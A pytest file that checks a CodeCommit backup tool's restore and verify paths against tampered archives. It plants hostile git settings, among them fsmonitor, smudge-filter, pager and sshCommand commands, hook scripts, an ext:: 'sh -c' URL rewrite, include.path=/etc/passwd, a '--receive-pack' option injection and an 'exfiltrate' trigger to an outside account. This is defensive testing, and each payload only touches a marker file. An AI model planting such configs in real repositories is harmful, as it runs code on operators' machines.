"""An archive is untrusted input: a source account that writes the bucket may be compromised.

Each test here rewrites a real backup as an attacker who can write the object would, with a SHA-256
and a refs fingerprint that match, so that every check the tool made before this work passes. Each
payload touches a marker file: the tests show that no code ran, that nothing was written outside
the target, and that the outcome is the documented refusal or warning.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import stat
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import codecommit_backup
import tests.codecommit_model
from tests.bed import BUCKET, REVIEWER_ARN, Bed, git, ref_state
from tests.helpers import Members, a_backup, backup, rewrite, tamper, the_key, typed_member
from tests.reviews import TEMPLATE, seed_review_history


def executable(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFREG | 0o755) << 16
    return info


def empty_index() -> bytes:
    """A valid, empty git index (version 2, no entries, its SHA-1 trailer): what makes git consult
    core.fsmonitor."""
    header = b"DIRC" + (2).to_bytes(4, "big") + (0).to_bytes(4, "big")
    return header + hashlib.sha1(header).digest()  # noqa: S324  # git's own checksum, not a security use


def config(body: str) -> str:
    """An archive's config as git reads it: the usual header, then the attacker's settings."""
    return "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n" + body


def nothing_ran(marker: Path) -> None:
    assert not marker.exists(), "the archive ran code"
    assert not list(marker.parent.glob(f"{marker.name}*")), "the archive ran code"


@pytest.mark.parametrize("shape", ["worktree", "linked-worktree"])
def test_verify_does_not_run_fsmonitor_from_a_fake_worktree(bed: Bed, tmp_path: Path, shape: str) -> None:
    key = a_backup(bed, "wt")
    marker = tmp_path / "pwned"
    settings = config(f'[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch {marker}; false"\n')
    members: Members = [("wt.git/index", empty_index())]
    if shape == "linked-worktree":
        members = [
            *members,
            ("wt.git/gitdir", "wt.git/wt/.git\n"),
            ("wt.git/commondir", "..\n"),
            ("wt.git/wt/.git", "gitdir: ..\n"),
        ]
    rewrite(bed, key, config=settings, add=members)

    run = bed.run("verify", "--bucket", BUCKET, "--repo", "wt")

    nothing_ran(marker)
    assert run.code == 1
    skipped = "commondir, gitdir, index, wt/.git" if shape == "linked-worktree" else "index"
    assert f"{key}: the archive holds what this tool never writes: {skipped};" in run.err
    (report,) = Path("reports").glob("codecommit-backup-verify-*.xml")
    assert 'name="wt"' in report.read_text() and key in report.read_text()


@pytest.mark.parametrize("attack", ["fsmonitor", "smudge-filter", "hooks"])
def test_a_checkout_runs_nothing_from_the_archive(bed: Bed, tmp_path: Path, attack: str) -> None:
    key = a_backup(bed, "co")
    marker = tmp_path / "pwned"
    script = f"#!/bin/sh\ntouch {marker}\n"
    if attack == "fsmonitor":
        rewrite(
            bed,
            key,
            config=config(f'[core]\n\tbare = true\n\tfsmonitor = "touch {marker}; false"\n'),
            add=[("co.git/index", empty_index())],
        )
    elif attack == "smudge-filter":
        rewrite(
            bed,
            key,
            config=config(
                f'[core]\n\tbare = true\n[filter "evil"]\n\tsmudge = "touch {marker}; cat"\n\trequired = true\n'
            ),
            add=[("co.git/info/attributes", "* filter=evil\n")],
        )
    else:
        hooks = ("post-checkout", "reference-transaction", "pre-push", "post-index-change")
        rewrite(bed, key, add=[(executable(f"co.git/hooks/{hook}"), script) for hook in hooks])
    target = tmp_path / "co"

    run = bed.run("restore", "co", "--bucket", BUCKET, "--to", str(target), "--checkout")

    nothing_ran(marker)
    assert run.code == 0, run.text
    assert (target / "README.md").read_text() == "hello\n"
    assert not (target / ".git" / "hooks").exists() and not (target / ".git" / "info").exists()
    assert "not restored, as a mirror never needs them: " in run.err
    git("-C", target, "status", "--porcelain")  # the operator's next command runs nothing either
    nothing_ran(marker)


def test_a_worktree_elsewhere_writes_nothing_outside_the_target(bed: Bed, tmp_path: Path) -> None:
    key = a_backup(bed, "away")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    rewrite(bed, key, config=config(f"[core]\n\tworktree = {elsewhere}\n"))
    target = tmp_path / "away"

    run = bed.run("restore", "away", "--bucket", BUCKET, "--to", str(target), "--checkout")

    assert run.code == 0, run.text
    assert list(elsewhere.iterdir()) == []
    assert (target / "README.md").read_text() == "hello\n"


def test_a_push_ignores_the_archives_url_rewrites_and_ssh_command(bed: Bed, tmp_path: Path) -> None:
    source_key = a_backup(bed, "pushy")
    marker = tmp_path / "pwned"
    remote = tmp_path / "remote.git"
    git("init", "-q", "--bare", remote)
    settings = (
        f'[core]\n\tbare = true\n\tsshCommand = "touch {marker}; false"\n'
        f'[url "ssh://evil.invalid/x"]\n\tpushInsteadOf = {remote}\n\tinsteadOf = {remote}\n'
    )
    rewrite(bed, source_key, config=config(settings))

    run = bed.run("restore", "pushy", "--bucket", BUCKET, "--push-to", str(remote))

    nothing_ran(marker)
    assert run.code == 0, run.text
    assert ref_state(remote)[0] == ref_state(bed.git_server.repo_path("us-east-1", "pushy"))[0]


def test_a_new_codecommit_repository_is_not_pushed_through_ext(bed: Bed, tmp_path: Path) -> None:
    key = a_backup(bed, "extish")
    marker = tmp_path / "pwned"
    command = f"ext::sh -c touch% {marker};% :% "
    settings = f'[core]\n\tbare = true\n[protocol "ext"]\n\tallow = always\n[url "{command}"]\n'
    settings += "\tinsteadOf = codecommit::\n\tinsteadOf = https://\n\tpushInsteadOf = https://\n"
    rewrite(bed, key, config=config(settings))

    run = bed.run("restore", "extish", "--bucket", BUCKET, "--create-repo", "extish-again")

    nothing_ran(marker)
    assert run.code == 0, run.text
    restored = bed.git_server.repo_path("us-east-1", "extish-again")
    assert ref_state(restored)[0] == ref_state(bed.git_server.repo_path("us-east-1", "extish"))[0]


def test_borrowed_objects_fail_verify_and_restore(bed: Bed, tmp_path: Path) -> None:
    """No pack, but objects/info/alternates pointing at another local repository that has them."""
    key = a_backup(bed, "hollow")
    lender = bed.git_server.repo_path("us-east-1", "hollow")
    rewrite(
        bed,
        key,
        keep=lambda name: not name.startswith("hollow.git/objects/") or name.endswith("/"),
        add=[("hollow.git/objects/info/alternates", f"{lender}/objects\n")],
    )

    run = bed.run("verify", "--bucket", BUCKET, "--repo", "hollow")
    assert run.code == 1
    assert f"FAILED us-east-1/hollow: {key}: git fsck found a damaged repository" in run.err

    target = tmp_path / "hollow.git"
    run = bed.run("restore", "hollow", "--bucket", BUCKET, "--to", str(target))
    assert run.code == 1 and "git fsck found a damaged repository" in run.err
    assert not target.exists()


def test_a_restored_mirror_has_the_tools_own_config(bed: Bed, tmp_path: Path) -> None:
    """Even a plain restore hands over nothing that runs at the operator's next git command."""
    key = a_backup(bed, "plain")
    marker = tmp_path / "pwned"
    settings = (
        f'[core]\n\tbare = true\n\tpager = "touch {marker}; cat"\n\tfsmonitor = "touch {marker}; false"\n'
        f'[alias]\n\tlog = "!touch {marker}"\n[include]\n\tpath = /etc/passwd\n'
    )
    rewrite(bed, key, config=config(settings))
    target = tmp_path / "plain.git"

    run = bed.run("restore", "plain", "--bucket", BUCKET, "--to", str(target))

    assert run.code == 0, run.text
    written = git("config", "--file", target / "config", "--list").splitlines()
    assert written == [
        "core.repositoryformatversion=0",
        "core.filemode=true",
        "core.bare=true",
        "remote.origin.url=codecommit::us-east-1://plain",
        "remote.origin.fetch=+refs/*:refs/*",
        "remote.origin.mirror=true",
    ]
    git("--git-dir", target, "log", "--oneline")
    nothing_ran(marker)


def test_a_symlinked_objects_folder_is_refused(bed: Bed, tmp_path: Path) -> None:
    key = a_backup(bed, "linked")
    link = typed_member("linked.git/objects")
    lender = bed.git_server.repo_path("us-east-1", "linked")
    rewrite(bed, key, keep=lambda name: not name.startswith("linked.git/objects"), add=[(link, f"{lender}/objects")])
    target = tmp_path / "linked.git"

    run = bed.run("restore", "linked", "--bucket", BUCKET, "--to", str(target))

    assert run.code == 1
    assert f"{key}: refusing archive member 'linked.git/objects': a link" in run.err
    assert not target.exists()


def test_a_malformed_archive_is_one_line_naming_the_backup(bed: Bed, tmp_path: Path) -> None:
    """A member twice, through restore, verify and its report. The other malformed shapes are rows of
    tests/test_extraction.py: "file below a file", "folder then file", "character device", "HEAD twice"."""
    key = a_backup(bed, "bad")
    rewrite(bed, key, add=[("bad.git/packed-refs", "# pack-refs with: peeled\n")])
    message = "'bad.git/packed-refs' appears twice"
    target = tmp_path / "bad.git"

    run = bed.run("restore", "bad", "--bucket", BUCKET, "--to", str(target))

    assert run.code == 1, run.text
    assert len(run.err.strip().splitlines()) == 1, run.err
    assert f"error: {key}: refusing archive" in run.err and message in run.err
    assert "Traceback" not in run.text and not target.exists()
    run = bed.run("verify", "--bucket", BUCKET, "--repo", "bad")
    assert run.code == 1 and "Traceback" not in run.text
    (report,) = Path("reports").glob("codecommit-backup-verify-*.xml")
    assert f'<failure message="{key}: refusing archive' in report.read_text()


def test_a_head_that_names_no_ref_is_refused(bed: Bed, tmp_path: Path) -> None:
    key = a_backup(bed, "headless")
    rewrite(bed, key, keep=lambda name: not name.endswith(".git/HEAD"), add=[("headless.git/HEAD", "ref: ../../x\n")])
    run = bed.run("restore", "headless", "--bucket", BUCKET, "--to", str(tmp_path / "headless.git"))
    assert run.code == 1
    assert f"{key}: refusing archive: its HEAD 'ref: ../../x\\n' names neither a ref nor an object" in run.err


def test_a_failed_forced_restore_leaves_the_old_target(bed: Bed, tmp_path: Path) -> None:
    """A tree with a `.git` entry: fsck calls it a format issue, but no checkout can write it."""
    bed.create_bucket()
    source = bed.make_repo("dotgit", content="simple")
    blob = subprocess.run(
        ["git", "--git-dir", str(source), "hash-object", "-w", "--stdin"],
        input="x\n",
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    tree = subprocess.run(
        ["git", "--git-dir", str(source), "mktree"],
        input=f"100644 blob {blob}\t.git\n",
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    commit = git("--git-dir", source, "commit-tree", tree, "-p", "main", "-m", "evil").strip()
    git("--git-dir", source, "update-ref", "refs/heads/main", commit)
    backup(bed)
    target = tmp_path / "dotgit"
    target.mkdir()
    (target / "keep.txt").write_text("mine")

    run = bed.run("restore", "dotgit", "--bucket", BUCKET, "--to", str(target), "--checkout", "--force")

    assert run.code == 1
    assert "invalid path '.git" in run.err and "nothing there was changed" in run.err
    assert [path.name for path in target.iterdir()] == ["keep.txt"]
    assert sorted(path.name for path in tmp_path.iterdir() if path.name.startswith(".dotgit")) == []


def test_an_encrypted_or_undecodable_member_is_one_line(bed: Bed, tmp_path: Path) -> None:
    key = a_backup(bed, "crypt")
    rewrite(bed, key, add=[("crypt.git/objects/info/locked", "P x.pack\n")])
    data = bytearray(bed.download(key))
    name = b"crypt.git/objects/info/locked"
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))  # its central directory entry, then its header
    local = int.from_bytes(data[central + 42 : central + 46], "little")
    for flags in (central + 8, local + 6):  # zipfile writes no encrypted member: mark one by hand
        data[flags] |= 0x1
    tamper(bed, key, bytes(data), sha256=hashlib.sha256(data).hexdigest())
    run = bed.run("restore", "crypt", "--bucket", BUCKET, "--to", str(tmp_path / "crypt.git"))
    assert run.code == 1 and "Traceback" not in run.text
    assert f"{key}: refusing archive member 'crypt.git/objects/info/locked': encrypted" in run.err

    plain = b"no pack here " * 200
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = squeezed.compress(plain) + squeezed.flush()
    member = zipfile.ZipInfo("crypt.git/objects/info/junk")
    member.compress_type = zipfile.ZIP_DEFLATED
    rewrite(bed, key, keep=lambda name: not name.endswith("/locked"), add=[(member, plain)])
    inflatable = bed.download(key)
    assert raw in inflatable
    broken = inflatable.replace(raw, b"\xff" * len(raw))  # a deflate stream that does not inflate
    tamper(bed, key, broken, sha256=hashlib.sha256(broken).hexdigest())
    run = bed.run("restore", "crypt", "--bucket", BUCKET, "--to", str(tmp_path / "again.git"))
    assert run.code == 1 and "Traceback" not in run.text and "the archive is damaged" in run.err


def replace_document(bed: Bed, key: str, name: str, document: dict[str, object]) -> None:
    """Rewrite a backup's data document, and the metadata that points to it, as its writer could."""
    raw = json.dumps(document).encode()
    rewrite(bed, key, keep=lambda member: member != f"{name}.codecommit.json", add=[(f"{name}.codecommit.json", raw)])
    data = bed.download(key)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(f"{name}.codecommit.json")
    start = info.header_offset + 30 + int.from_bytes(data[info.header_offset + 26 : info.header_offset + 28], "little")
    start += int.from_bytes(data[info.header_offset + 28 : info.header_offset + 30], "little")
    assert data[start : start + len(raw)] == raw
    metadata = {"data-sha256": hashlib.sha256(raw).hexdigest(), "data-size": str(len(raw)), "data-offset": str(start)}
    tamper(bed, key, data, sha256=hashlib.sha256(data).hexdigest(), **metadata)


def test_a_malformed_data_document_fails_verify_show_and_restore_before_anything_is_created(bed: Bed) -> None:
    key = a_backup(bed, "doc")
    hostile = {
        "format": "codecommit-backup/repository-data",
        "schema": 1,
        "repository": {"repositoryName": "doc"},
        "tags": ["not", "a", "map"],
        "pullRequests": [{"pullRequest": {"pullRequestId": "1", "pullRequestTargets": []}}],
    }
    replace_document(bed, key, "doc", hostile)

    verify = bed.run("verify", "--bucket", BUCKET, "--repo", "doc")
    show = bed.run("show", "doc", "--bucket", BUCKET)
    restore = bed.run("restore", "doc", "--bucket", BUCKET, "--create-repo", "doc-again")

    message = "its repository data is malformed: tags is not a dict"
    assert verify.code == 1 and message in verify.err
    for run in (show, restore):
        assert run.code == 1 and message in run.err and "Traceback" not in run.text
        assert len(run.err.strip().splitlines()) == 1, run.err
    names = [r["repositoryName"] for r in bed.client("codecommit").list_repositories()["repositories"]]
    assert "doc-again" not in names


def test_a_tag_named_with_64_hex_digits_restores(bed: Bed, tmp_path: Path) -> None:
    """A tag named after a release's SHA-256 once made the restored config declare objectformat =
    sha256 for a SHA-1 repository: every backup of it verified as damaged and did not restore."""
    bare = bed.make_repo("release", content="simple")
    name = hashlib.sha256(b"release 1.0").hexdigest()
    git("--git-dir", bare, "tag", name, "main")
    git("--git-dir", bare, "pack-refs", "--all")  # the name now sits in packed-refs too
    bed.create_bucket()
    assert bed.run("--bucket", BUCKET).code == 0

    assert bed.run("verify", "--bucket", BUCKET, "--repo", "release").code == 0
    target = tmp_path / "release.git"
    restored = bed.run("restore", "release", "--bucket", BUCKET, "--to", str(target))
    assert restored.code == 0, restored.text
    assert ref_state(target) == ref_state(bare)
    git("--git-dir", target, "fsck", "--no-progress")


def test_a_key_with_a_date_no_calendar_has_is_skipped_and_named(bed: Bed) -> None:
    """One key such as x-2026-02-30-04-00-00.zip once stopped backup, list, prune and status for the
    whole account with a ValueError."""
    bed.create_bucket()
    bed.make_repo("steady", content="simple")
    planted = "projects/codecommit-backup/123456789012/us-east-1/x/x-2026-02-30-04-00-00.zip"
    bed.client("s3").put_object(Bucket=BUCKET, Key=planted, Body=b"not a backup")

    for args in ((), ("list",), ("prune", "--dry-run"), ("status",)):
        run = bed.run(*args, "--bucket", BUCKET)
        assert "Traceback" not in run.text and "ValueError" not in run.text, (args, run.text)
        assert run.code == 0, (args, run.text)
        assert (
            f"skipping 1 zip(s) whose key is not <region>/<name>/<name>-<date>.zip: s3://{BUCKET}/{planted}" in run.err
        )
    assert any(key.endswith(".zip") and "/steady/" in key for key in bed.object_keys())


def test_a_push_target_that_git_would_read_as_an_option_is_refused(bed: Bed, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    bed.create_bucket()
    bed.make_repo("web", content="simple")
    assert bed.run("--bucket", BUCKET).code == 0

    run = bed.run("restore", "web", "--bucket", BUCKET, f"--push-to=--receive-pack=touch {marker}")

    assert run.code == 2 and "a remote cannot start with '-'" in run.err, run.text
    assert not marker.exists()


def test_a_checkout_ignores_replace_refs(bed: Bed, tmp_path: Path) -> None:
    """refs/replace/<commit> makes git show another commit in its place: a restored work tree must be
    what `git clone` of the source gives, the history as it is."""
    bare = bed.make_repo("replaced", content="simple")
    work = tmp_path / "work"
    git("clone", "-q", bare, work)
    real = git("-C", work, "rev-parse", "HEAD").strip()
    git("-C", work, "checkout", "-q", "--orphan", "other")
    (work / "README.md").write_text("planted\n")
    git("-C", work, "commit", "-q", "-am", "planted")
    fake = git("-C", work, "rev-parse", "HEAD").strip()
    git("-C", work, "push", "-q", "origin", f"{fake}:refs/replace/{real}")
    bed.create_bucket()
    assert bed.run("--bucket", BUCKET).code == 0

    target = tmp_path / "restored"
    run = bed.run("restore", "replaced", "--bucket", BUCKET, "--to", str(target), "--checkout")

    assert run.code == 0, run.text
    assert (target / "README.md").read_text() == "hello\n"  # the source's main, not the planted commit


def refs_a_list(document: bytes) -> bytes:
    return json.dumps({**json.loads(document), "refs": []}).encode()  # a field the next night reads, mistyped


def nested_deep(document: bytes) -> bytes:  # JSON nested past Python's recursion limit
    return document.replace(b"{", b'{"deep": ' + b"[" * 100_000 + b"]" * 100_000 + b",", 1)


def merge_metadata_a_word(document: bytes) -> bytes:  # shape-valid but for one member show reads
    target = {"sourceReference": "refs/heads/a", "destinationReference": "refs/heads/main", "mergeMetadata": "yes"}
    record = {"pullRequest": {"pullRequestId": "1", "pullRequestTargets": [target]}}
    return json.dumps({**json.loads(document), "pullRequests": [record]}).encode()


@pytest.mark.parametrize("poison", [refs_a_list, nested_deep, merge_metadata_a_word])
def test_a_poisoned_previous_document_fails_verify_and_never_blocks_git(
    bed: Bed, tmp_path: Path, poison: Callable[[bytes], bytes]
) -> None:
    """A document that checks against its own metadata but not against what the tool reads once failed
    its repository every night (git included), and verify passed it. It is now absent for the night,
    which reads the data afresh, and verify fails it; never a traceback."""
    key = a_backup(bed, "poisoned")
    with zipfile.ZipFile(io.BytesIO(bed.download(key))) as archive:
        document = archive.read("poisoned.codecommit.json")
        archive.extractall(tmp_path / "out")
    poisoned = poison(document)
    buffer = codecommit_backup.HashingWriter(io.BytesIO())
    sink: Any = buffer._target  # the bytes written
    offset = codecommit_backup.write_zip(
        tmp_path / "out" / "poisoned.git", "poisoned.git", buffer, data=("poisoned.codecommit.json", poisoned)
    )
    data = sink.getvalue()
    tamper(
        bed,
        key,
        data,
        sha256=hashlib.sha256(data).hexdigest(),
        size=str(len(data)),
        **{"data-sha256": hashlib.sha256(poisoned).hexdigest(), "data-size": str(len(poisoned))},
        **{"data-offset": str(offset)},
    )

    verify = bed.run("verify", "--bucket", BUCKET, "--repo", "poisoned")
    assert verify.code == 1 and "Traceback" not in verify.text, verify.text
    show = bed.run("show", "poisoned", "--bucket", BUCKET)
    assert show.code == 1 and len(show.err.strip().splitlines()) == 1 and "Traceback" not in show.text, show.text
    work = bed.work / "push-one-more"
    git("clone", "-q", bed.git_server.repo_path("us-east-1", "poisoned"), work)
    git("-C", work, "commit", "-q", "--allow-empty", "-m", "a new night's commit")
    git("-C", work, "push", "-q", "origin", "HEAD:main")
    tomorrow = dt.datetime.now(dt.timezone.utc) + dt.timedelta(days=1)  # keys are dated to the second
    night = bed.run("--bucket", BUCKET, clock=lambda: tomorrow)
    assert night.code == 0, night.text  # the data read afresh, git backed up
    assert "summary: 1 ok" in night.err and "reading all of the repository's data again" in night.err


def test_a_key_dated_in_the_future_is_never_the_latest(bed: Bed, tmp_path: Path) -> None:
    """Only a planted or hand-copied key can be dated in the future. It was "latest" for restore, for
    the unchanged check (every night a new backup) and for status (a negative age is fresh)."""
    key = a_backup(bed, "dated")
    planted = key.rsplit("-", 6)[0] + "-2099-01-01-04-00-00.zip"
    s3 = bed.client("s3")
    s3.copy_object(Bucket=BUCKET, Key=planted, CopySource={"Bucket": BUCKET, "Key": key})
    tamper(bed, planted, **{"refs-fingerprint": "sha256:planted"})

    restored = bed.run("restore", "dated", "--bucket", BUCKET, "--to", str(tmp_path / "dated.git"))
    assert restored.code == 0 and f"restored {key} " in restored.out, restored.text
    assert "not taken as the latest, as dated in the future" in restored.err and planted in restored.err
    picked = bed.run("restore", "dated", "--bucket", BUCKET, "--at", planted, "--to", str(tmp_path / "at.git"))
    assert picked.code == 1 and f"error: {planted}: the restored refs do not match" in picked.err  # --at names it

    night = bed.run("--bucket", BUCKET)
    assert "summary: 0 ok, 1 unchanged" in night.err, night.text  # compared with the real newest backup
    assert f"{planted} is dated in the future" in night.err


OUTSIDER = "arn:aws:iam::999999999999:role/Attacker"


def planted_payments(bed: Bed, **changes: Callable[[dict[str, Any]], None]) -> str:
    """payments with its review history, backed up, then its document rewritten by `changes`."""
    bed.create_bucket()
    seed_review_history(bed, "payments")
    backup(bed)
    key = the_key(bed, "payments")
    document = json.loads(zipfile.ZipFile(io.BytesIO(bed.download(key))).read("payments.codecommit.json"))
    for change in changes.values():
        change(document)
    replace_document(bed, key, "payments", document)
    return key


def template(name: str, approver: str) -> dict[str, Any]:
    content = {"Version": "2018-11-08", "Statements": [{"Type": "Approvers", "ApprovalPoolMembers": [approver]}]}
    return {"approvalRuleTemplateName": name, "approvalRuleTemplateContent": json.dumps(content)}


def trigger(name: str, target: str) -> dict[str, Any]:
    return {"name": name, "destinationArn": target, "customData": "deploy to prod", "branches": [], "events": ["all"]}


def hostile_settings(document: dict[str, Any]) -> None:
    """An account-wide template whose approver is in another account, and triggers to the restoring
    account's deploy Lambda (with custom data), to another account and to another region."""
    document["approvalRuleTemplates"] += [template("outsiders-approve", OUTSIDER), template("ours", REVIEWER_ARN)]
    document["triggers"]["triggers"] += [
        trigger("exfiltrate", "arn:aws:lambda:us-east-1:999999999999:function:collect"),
        trigger("west", "arn:aws:lambda:us-west-2:123456789012:function:deploy"),
    ]


def account_templates(bed: Bed) -> list[str]:
    names: list[str] = bed.client("codecommit").list_approval_rule_templates()["approvalRuleTemplateNames"]
    return names


def test_a_document_writes_nothing_beyond_the_repository_unless_asked(bed: Bed) -> None:
    """Triggers send the repository's events to SNS or Lambda, and templates are the account's: a
    restore writes neither from a document unless the operator asks."""
    planted_payments(bed, settings=hostile_settings)
    before = account_templates(bed)

    run = bed.run("restore", "payments", "--bucket", BUCKET, "--create-repo", "again")

    assert run.code == 0, run.text
    codecommit = bed.client("codecommit")
    assert codecommit.get_repository_triggers(repositoryName="again")["triggers"] == []
    associated = codecommit.list_associated_approval_rule_templates_for_repository(repositoryName="again")
    assert associated["approvalRuleTemplateNames"] == []
    assert account_templates(bed) == before
    assert bed.moto.calls["TestRepositoryTriggers"] == 0
    assert "triggers not written (notify-all, deploy-main, exfiltrate, west)" in run.err
    assert "see --restore-triggers" in run.err and "see --restore-templates" in run.err


def test_asked_for_the_triggers_and_templates_the_restore_keeps_them_in_the_account(bed: Bed) -> None:
    """TestRepositoryTriggers "sends information to the trigger target ... data from the last commit"
    (CodeCommit API reference, TestRepositoryTriggers): a restore never calls it. A template whose
    approvers are outside the account is never created: it would apply to every repository."""
    planted_payments(bed, settings=hostile_settings)

    run = bed.run(
        *("restore", "payments", "--bucket", BUCKET, "--create-repo", "again"),
        *("--restore-triggers", "--restore-templates"),
    )

    assert run.code == 0, run.text
    codecommit = bed.client("codecommit")
    triggers = codecommit.get_repository_triggers(repositoryName="again")["triggers"]
    assert sorted(t["name"] for t in triggers) == ["deploy-main", "notify-all"]
    assert "trigger exfiltrate not written: its target arn:aws:lambda:us-east-1:999999999999" in run.err
    assert "trigger west not written" in run.err
    assert "writing trigger deploy-main: arn:aws:lambda:us-east-1:123456789012:function:deploy" in run.err
    assert bed.moto.calls["TestRepositoryTriggers"] == 0
    associated = codecommit.list_associated_approval_rule_templates_for_repository(repositoryName="again")
    assert sorted(associated["approvalRuleTemplateNames"]) == sorted([TEMPLATE, "ours"])
    assert "outsiders-approve" not in account_templates(bed)
    assert "approval rule template outsiders-approve not created: its approvers are not all in account" in run.err


def test_a_half_finished_write_back_is_finished_by_the_same_command(bed: Bed, monkeypatch: pytest.MonkeyPatch) -> None:
    """One refused item no longer stops the rest, and the same restore again writes what is missing,
    nothing twice. CodeCommit refuses tag keys starting with aws: (InvalidSystemTagUsageException)
    and a pull request past the repository's open limit (MaximumOpenPullRequestsExceededException)."""

    def reserved_tag(document: dict[str, Any]) -> None:
        document["tags"]["aws:cloudformation:stack-name"] = "payments"

    planted_payments(bed, tags=reserved_tag)
    bed.moto.calls.clear()
    monkeypatch.setattr(tests.codecommit_model, "MAX_OPEN_PULL_REQUESTS", 0)
    command = ("restore", "payments", "--bucket", BUCKET, "--create-repo", "again", "--restore-triggers")

    first = bed.run(*command)

    assert first.code == 1 and "Traceback" not in first.text
    assert "tags not written (aws:cloudformation:stack-name)" in first.err
    assert "MaximumOpenPullRequestsExceeded" in first.err
    assert "the same restore command again writes only what is missing" in first.err
    codecommit = bed.client("codecommit")
    arn = codecommit.get_repository(repositoryName="again")["repositoryMetadata"]["Arn"]
    pages = codecommit_backup.each_page(codecommit.list_tags_for_resource, resourceArn=arn)
    tags = {key: value for page in pages for key, value in page["tags"].items()}
    assert tags.get("team") == "payments" and "codecommit-backup:restored-from" in tags  # the others went on
    assert len(codecommit.get_repository_triggers(repositoryName="again")["triggers"]) == 2

    pushes = len(bed.git_server.pushes)
    monkeypatch.setattr(tests.codecommit_model, "MAX_OPEN_PULL_REQUESTS", 1000)
    second = bed.run(*command)
    third = bed.run(*command)

    assert second.code == third.code == 0, second.text + third.text
    opened = codecommit.list_pull_requests(repositoryName="again", pullRequestStatus="OPEN")["pullRequestIds"]
    assert len(opened) == 1
    assert len(codecommit.get_repository_triggers(repositoryName="again")["triggers"]) == 2
    assert bed.moto.calls["CreateRepository"] == 1
    assert len(bed.git_server.pushes) == pushes  # git was all there: not pushed again


def test_a_repository_of_that_name_not_made_by_this_restore_is_still_refused(bed: Bed) -> None:
    planted_payments(bed)
    bed.client("codecommit").create_repository(repositoryName="again", tags={"codecommit-backup:restored-from": "0"})

    run = bed.run("restore", "payments", "--bucket", BUCKET, "--create-repo", "again")

    assert run.code == 1 and "CodeCommit repository again exists in us-east-1: choose a new name" in run.err


def test_a_restore_into_a_name_used_before_reopens_its_pull_requests(bed: Bed) -> None:
    """A client request token returns the pull request an earlier call made: one naming only the
    repository's name and the original id collided with an earlier restore under that name."""
    planted_payments(bed)
    codecommit = bed.client("codecommit")
    command = ("restore", "payments", "--bucket", BUCKET, "--create-repo", "copy")
    assert bed.run(*command).code == 0
    codecommit.delete_repository(repositoryName="copy")

    run = bed.run(*command)

    assert run.code == 0, run.text
    opened = codecommit.list_pull_requests(repositoryName="copy", pullRequestStatus="OPEN")["pullRequestIds"]
    (reopened,) = opened
    assert (
        codecommit.get_pull_request(pullRequestId=reopened)["pullRequest"]["pullRequestTargets"][0]["repositoryName"]
        == "copy"
    )
